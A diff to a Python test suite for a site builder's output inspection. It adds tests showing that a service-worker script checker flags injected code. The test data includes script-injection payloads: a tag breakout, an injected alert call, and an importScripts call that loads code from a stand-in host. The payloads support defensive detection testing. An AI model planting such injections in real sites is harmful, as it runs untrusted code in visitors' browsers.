@@ -21,7 +21,7 @@ from hostile.hostile_site import (
     run_build,
     write_site,
 )
-from hostile.outputs import faults_of, html_faults, xml_faults
+from hostile.outputs import code_faults, faults_of, html_faults, xml_faults
 
 
 class Built(NamedTuple):
@@ -125,6 +125,11 @@ def test_every_output_is_inert(built: Built) -> None:
     assert faults_of(built.output) == []
 
 
+def test_scripts_were_inspected(built: Built) -> None:
+    """The service worker is there, so that its inspection is one."""
+    assert "KEPT" in (built.output / "service-worker.js").read_text()
+
+
 def test_templates_in_texts_are_not_evaluated(built: Built) -> None:
     """They are on the page as they were written."""
     pages = built.output / "news"
@@ -190,3 +195,22 @@ def test_the_inspection_bites(markup: str) -> None:
 def test_the_inspection_of_feeds_bites(inside: str) -> None:
     """It finds what a reader of RSS would run."""
     assert list(xml_faults(f"<rss>{inside}</rss>"))
+
+
+_WORKER = 'const BASE = "";\nconst VERSION = "5e7ff4d02c7b";\nconst KEPT = ["/"];\n\n// Keeps\n'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        _WORKER.replace('["/"]', "[\"/\", '/x']"),
+        _WORKER.replace('["/"]', '["/", "</script><script>1"]'),
+        _WORKER.replace('["/"]', '["/"]; alert(1); [""]'),
+        _WORKER.replace('BASE = ""', 'BASE = "" + importScripts("//a.example/x.js")'),
+        _WORKER + "self.__canary = 1;\n",
+    ],
+)
+def test_the_inspection_of_scripts_bites(text: str) -> None:
+    """It finds what an article or an address would have to write to run in the service worker."""
+    assert [] == list(code_faults("service-worker.js", _WORKER))
+    assert [] != list(code_faults("service-worker.js", text))
